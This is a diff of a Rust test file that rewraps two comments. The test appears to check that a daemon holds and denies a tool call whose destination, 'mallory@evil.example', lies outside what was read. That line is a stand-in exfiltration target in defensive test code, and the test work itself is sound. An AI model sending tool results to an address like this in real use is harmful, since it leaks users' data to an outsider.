@@ -1,5 +1,5 @@
-//! What a task may change and where values come from, over the built programs: calls that wait, who allows them, and what
-//! nobody gets around.
+//! What a task may change and where values come from, over the built programs: calls that wait, who
+//! allows them, and what nobody gets around.
 
 use colibri_tests::{Client, Daemon, LEGACY, Place, code_of, text_of, wait_for};
 use serde_json::{Value, json};
@@ -225,8 +225,8 @@ fn a_destination_out_of_what_was_read_waits_once_and_a_new_connection_goes_on() 
     let within = json!({ "tool": "fix__count", "arguments": { "to": "mallory@evil.example" } });
     held(&daemon, &mut client, "colibri_call_tool", within, "deny");
     drop(client);
-    // Who came before the end of the first begins anew. If it ended before it, the two would go on as one, of whose values
-    // nothing is known.
+    // Who came before the end of the first begins anew. If it ended before it, the two would go on
+    // as one, of whose values nothing is known.
     let mut too_early = Vec::new();
     let mut again = wait_for("the connection to have ended", || {
         let mut again = daemon.legacy(LEGACY);
